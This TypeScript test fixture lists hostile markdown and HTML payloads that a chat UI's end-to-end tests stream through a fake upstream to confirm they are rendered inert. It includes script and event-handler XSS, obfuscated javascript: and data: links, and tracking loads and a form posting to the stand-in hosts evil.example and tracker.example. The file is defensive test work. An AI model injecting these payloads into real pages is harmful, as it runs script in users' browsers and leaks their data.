/**
 * Model output written by an attacker: each payload tries to run script (setting
 * `window.__pwned` or opening a dialog), to make the browser fetch something from another host
 * (tracker.example, evil.example), to navigate, or to break the page. e2e/hostile.spec.ts streams
 * them through the fake upstream and checks that none of that happens, in the chat and on a
 * shared page.
 */

export type HostileCategory =
  | "script"
  | "event-handler"
  | "link-scheme"
  | "external-load"
  | "navigation"
  | "math"
  | "markup"
  | "size"
  | "unicode";

export type HostilePayload = {
  id: string;
  category: HostileCategory;
  markdown: string;
  /** Text the rendered answer must show: proof the payload arrived and was shown, not dropped. */
  shows?: string;
  /** Leaves a construct open (math, code fence, comment), so it must come last in its turn. */
  unclosed?: true;
  /** Large enough to deserve a turn of its own. */
  heavy?: true;
};

const PWN = "window.__pwned=1";
const JS = `javascript:${PWN}`;
const b64 = (text: string) => Buffer.from(text).toString("base64");
const entities = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join("");

/** 200,000 characters without a space or a line break. */
const HUGE_LINE = `Start:${"0123456789abcdef".repeat(12_500)}:end`;

const matrix = (size: number) =>
  Array.from({ length: size }, (_, r) =>
    Array.from({ length: size }, (_, c) => `a_{${r}${c}}`).join(" & "),
  ).join(" \\\\ ");

export const hostileCorpus: HostilePayload[] = [
  // Script elements and event handlers, as raw HTML.
  {
    id: "script-inline",
    category: "script",
    markdown: `<script>${PWN};alert("script")</script>`,
    shows: "<script>",
  },
  {
    id: "script-external",
    category: "script",
    markdown: `<script src="https://evil.example/x.js"></script>`,
    shows: "evil.example/x.js",
  },
  {
    id: "script-in-paragraph",
    category: "script",
    markdown: `Inline <script>${PWN}</script> in a sentence and <SCRIPT SRC=//evil.example/y.js></SCRIPT>.`,
    shows: "in a sentence",
  },
  {
    id: "img-onerror",
    category: "event-handler",
    markdown: `<img src=x onerror="${PWN};alert('img')">`,
    shows: "onerror",
  },
  {
    id: "svg-onload",
    category: "event-handler",
    markdown: `<svg onload="${PWN}"><circle r="10"/></svg>`,
    shows: "<svg onload",
  },
  {
    id: "details-ontoggle",
    category: "event-handler",
    markdown: `<details open ontoggle="${PWN}"><summary>open me</summary>hidden</details>`,
    shows: "ontoggle",
  },
  {
    id: "svg-animate-onbegin",
    category: "event-handler",
    markdown: `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="${PWN}"/></svg>`,
    shows: "onbegin",
  },
  {
    id: "mutation-xss",
    category: "event-handler",
    markdown: `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}"></style></mglyph></table></mtext></math> <noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
    shows: "mglyph",
  },
  {
    id: "link-title-breakout",
    category: "event-handler",
    markdown: `[title breakout](https://example.com/ok "\\" onmouseover=\\"${PWN}") and <a href="https://example.com" onclick="${PWN}">raw anchor</a>`,
    shows: "title breakout",
  },

  // Links with schemes that run code or render attacker documents.
  {
    id: "javascript-link",
    category: "link-scheme",
    markdown: `[plain js](${JS})`,
    shows: "plain js",
  },
  {
    id: "javascript-mixed-case",
    category: "link-scheme",
    markdown: `[mixed case](JaVaScRiPt:${PWN})`,
    shows: "mixed case",
  },
  {
    id: "javascript-decimal-entities",
    category: "link-scheme",
    markdown: `[entities](${entities("javascript:")}${PWN})`,
    shows: "entities",
  },
  {
    id: "javascript-named-entities",
    category: "link-scheme",
    markdown: `[colon entity](javascript&colon;${PWN}) [hex colon](javascript&#x3A;${PWN}) [newline entity](&#10;javascript:${PWN})`,
    shows: "colon entity",
  },
  {
    id: "javascript-whitespace-in-scheme",
    category: "link-scheme",
    markdown: `[tab](<java\tscript:${PWN}>) [tab entity](java&#9;script:${PWN}) [nl entity](java&#x0A;script:${PWN}) [leading space](<  javascript:${PWN}>)`,
    shows: "tab entity",
  },
  {
    id: "javascript-reference-link",
    category: "link-scheme",
    markdown: `[reference js][evil] and [collapsed][]\n\n[evil]: javascript:${PWN}\n[collapsed]: JAVASCRIPT:${PWN}`,
    shows: "reference js",
  },
  {
    id: "javascript-autolink",
    category: "link-scheme",
    markdown: `<javascript:${PWN}> and <JavaScript:alert(1)> and <a href="javascript:${PWN}">raw js anchor</a>`,
    shows: "raw js anchor",
  },
  {
    id: "vbscript-link",
    category: "link-scheme",
    markdown: `[vbscript](vbscript:msgbox("pwned")) [VBS](VBScript:msgbox(1))`,
    shows: "vbscript",
  },
  {
    id: "data-links",
    category: "link-scheme",
    markdown: `[data html](data:text/html;base64,${b64(`<script>opener.${PWN}</script>`)}) [data svg](data:image/svg+xml,<svg onload=alert(1)>) [Data mixed](DaTa:text/html,<script>alert(1)</script>)`,
    shows: "data html",
  },
  {
    id: "other-schemes",
    category: "link-scheme",
    markdown: `[file](file:///etc/passwd) [blob](blob:https://evil.example/uuid) [protocol-relative](//evil.example/pr) [relative](/api/conversations) [ws](ws://evil.example/)`,
    shows: "protocol-relative",
  },

  // Ways to make the browser fetch from another host (tracking pixels, styles, frames).
  {
    id: "markdown-image",
    category: "external-load",
    markdown: `![tracking pixel](https://tracker.example/pixel.gif?u=1) ![pr](//tracker.example/pr.gif)`,
    shows: "Image not loaded",
  },
  {
    id: "reference-image",
    category: "external-load",
    markdown: `![reference pixel][pix]\n\n[pix]: https://tracker.example/ref.gif "title"`,
    shows: "reference pixel",
  },
  {
    id: "data-image",
    category: "external-load",
    markdown: `![data svg](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"><image href="https://tracker.example/in-svg.png"/></svg>`)})`,
    shows: "data svg",
  },
  {
    id: "raw-img",
    category: "external-load",
    markdown: `<img src="https://tracker.example/raw.gif" width="1" height="1"> <IMG SRC="HTTPS://TRACKER.EXAMPLE/UPPER.GIF">`,
    shows: "raw.gif",
  },
  {
    id: "picture-source-srcset",
    category: "external-load",
    markdown: `<picture><source srcset="https://tracker.example/p.webp" type="image/webp"><img src="https://tracker.example/p.png" srcset="https://tracker.example/1x.png 1x, https://tracker.example/2x.png 2x"></picture>`,
    shows: "<picture>",
  },
  {
    id: "media-elements",
    category: "external-load",
    markdown: `<video poster="https://tracker.example/poster.png" autoplay><source src="https://tracker.example/v.mp4"></video><audio src="https://tracker.example/a.mp3" autoplay></audio>`,
    shows: "poster.png",
  },
  {
    id: "css-url-in-style",
    category: "external-load",
    markdown: `<div style="background-image:url(https://tracker.example/css.png)">styled div</div>\n\n<span style="background:url('//tracker.example/span.png')">styled span</span>`,
    shows: "styled div",
  },
  {
    id: "style-element",
    category: "external-load",
    markdown: `<style>@import url(https://evil.example/i.css); body { background: url(https://tracker.example/bg.png) }</style>`,
    shows: "@import",
  },
  {
    id: "link-stylesheet",
    category: "external-load",
    markdown: `<link rel="stylesheet" href="https://evil.example/s.css"><link rel="prefetch" href="https://tracker.example/prefetch"><link rel="dns-prefetch" href="//tracker.example">`,
    shows: "stylesheet",
  },
  {
    id: "svg-external",
    category: "external-load",
    markdown: `<svg><image href="https://tracker.example/svg.png"/><use href="https://evil.example/sprite.svg#a"/><foreignObject><img src="https://tracker.example/fo.png"></foreignObject></svg>`,
    shows: "foreignObject",
  },
  {
    id: "iframe",
    category: "external-load",
    markdown: `<iframe src="https://evil.example/frame" srcdoc="<script>parent.${PWN}</script>"></iframe>`,
    shows: "<iframe",
  },
  {
    id: "object-embed",
    category: "external-load",
    markdown: `<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf"><applet code="x"></applet>`,
    shows: "<embed",
  },
  {
    id: "anchor-ping",
    category: "external-load",
    markdown: `<a href="https://example.com/" ping="https://tracker.example/ping">pinging anchor</a>`,
    shows: "pinging anchor",
  },

  // Navigation and form hijacking.
  {
    id: "meta-refresh",
    category: "navigation",
    markdown: `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    shows: "http-equiv",
  },
  {
    id: "form-action",
    category: "navigation",
    markdown: `<form action="https://evil.example/steal" method="post"><input name="q" value="1"><button formaction="javascript:${PWN}">Send it</button></form>`,
    shows: "evil.example/steal",
  },
  {
    id: "base-href",
    category: "navigation",
    markdown: `<base href="https://evil.example/"> then [a relative link](/relative) and ![rel](relative.png)`,
    shows: "<base",
  },

  // Markdown and HTML oddities.
  {
    id: "html-comment",
    category: "markup",
    markdown: `Before <!-- <script>${PWN}</script> --> after.\n\n<!-- <img src="https://tracker.example/comment.gif"> -->`,
    shows: "Before",
  },
  {
    id: "autolinks",
    category: "markup",
    markdown: `<https://example.com/auto> www.example.com/www and mailto:someone@example.com and <someone@example.com>`,
    shows: "example.com/auto",
  },
  {
    id: "code-fence-language",
    category: "markup",
    markdown:
      '```js" onmouseover="' +
      PWN +
      "\n<script>" +
      PWN +
      "</script>\n```\n\n```html\n<img src=https://tracker.example/code.gif onerror=alert(1)>\n```",
    shows: "code.gif",
  },
  {
    id: "table-with-html",
    category: "markup",
    markdown: `| a | b |\n|---|---|\n| <img src=https://tracker.example/cell.gif> | [cell](${JS}) |`,
    shows: "cell",
  },
  {
    id: "footnote-clobbering",
    category: "markup",
    markdown: `Footnote[^__pwned] here.\n\n[^__pwned]: A note with [js](${JS}) and <img name="__pwned" src=x onerror=${PWN}>.`,
    shows: "Footnote",
  },
  {
    id: "dom-clobbering-ids",
    category: "markup",
    markdown: `# __pwned\n\n<a id="__pwned" name="__pwned">clobber</a> <form name="__pwned"></form>`,
    shows: "clobber",
  },

  // Hostile math (KaTeX).
  {
    id: "math-href",
    category: "math",
    markdown: `$$\n\\href{${JS}}{click me} \\url{${JS}} \\href{https://evil.example}{ok}\n$$`,
  },
  {
    id: "math-trusted-commands",
    category: "math",
    markdown: `$$\n\\includegraphics[height=1em]{https://tracker.example/k.png} \\htmlStyle{background:url(https://tracker.example/s.png)}{x} \\htmlData{pwned=1}{y} \\htmlId{__pwned}{z} \\htmlClass{x}{w}\n$$`,
  },
  {
    id: "math-macro-bomb",
    category: "math",
    markdown: `$$\n\\def\\a{\\a\\a}\\a\n$$\n\n$$\n\\def\\b#1{#1#1#1#1}\\b{\\b{\\b{\\b{\\b{\\b{\\b{\\b{x}}}}}}}}\n$$`,
  },
  {
    id: "math-huge-matrix",
    category: "math",
    // 12×12 keeps the spec fast; 40×40 renders 1.3 MB of KaTeX HTML in about 6 s per render.
    markdown: `$$\n\\begin{matrix} ${matrix(12)} \\end{matrix}\n$$`,
  },
  {
    id: "math-huge-rule",
    category: "math",
    markdown: `Inline $\\rule{100000em}{100000em}$ and $\\color{red}{\\Huge x}$ and $\\mathrm{\\textcolor{#f00}{y}}$.`,
  },

  // Unicode tricks in link text and targets.
  {
    id: "bidi-link-text",
    category: "unicode",
    markdown: `[https://example.com/\u202Egpj.exe](https://evil.example/bidi) and [pay\u200Bpal.com](${JS}) and [\u2066safe\u2069](java\u200Bscript:${PWN})`,
    shows: "pal.com",
  },
  {
    id: "zero-width-scheme",
    category: "unicode",
    markdown: `[zw](\u200Bjavascript:${PWN}) [bom](\uFEFFjavascript:${PWN}) [fullwidth](ｊａｖａｓｃｒｉｐｔ:${PWN})`,
    shows: "fullwidth",
  },

  // Size: long lines and deep nesting must not hang or crash the page.
  {
    id: "huge-single-line",
    category: "size",
    markdown: HUGE_LINE,
    // All of it, so that a line cut short (or split and partly dropped) fails.
    shows: HUGE_LINE,
    heavy: true,
  },
  {
    id: "delimiter-run",
    category: "size",
    // 12,000 characters took half a second to parse on every streamed update; 3,000 suffice.
    markdown: `Runs:${"*_[`<~".repeat(500)}:end`,
    shows: "Runs:",
  },
  {
    id: "deep-blockquotes",
    category: "size",
    markdown: `${"> ".repeat(300)}deep quote`,
    heavy: true,
  },
  {
    id: "deep-lists",
    category: "size",
    // Indentation grows with depth, so the source grows quadratically: 60 levels is 3,540 spaces.
    markdown: Array.from({ length: 60 }, (_, i) => `${"  ".repeat(i)}- level ${i}`).join("\n"),
    heavy: true,
  },

  // Constructs left open until the end of the answer.
  {
    id: "unclosed-display-math",
    category: "math",
    markdown: `$$\n\\href{${JS}}{x} \\begin{matrix} a & b`,
    unclosed: true,
  },
  {
    id: "unclosed-code-fence",
    category: "markup",
    markdown: "```html\n<script>" + PWN + "</script>\n<img src=https://tracker.example/fence.gif>",
    unclosed: true,
  },
  {
    id: "unclosed-comment",
    category: "markup",
    markdown: `<!-- <img src="https://tracker.example/open-comment.gif"> [x](${JS})`,
    unclosed: true,
  },
];
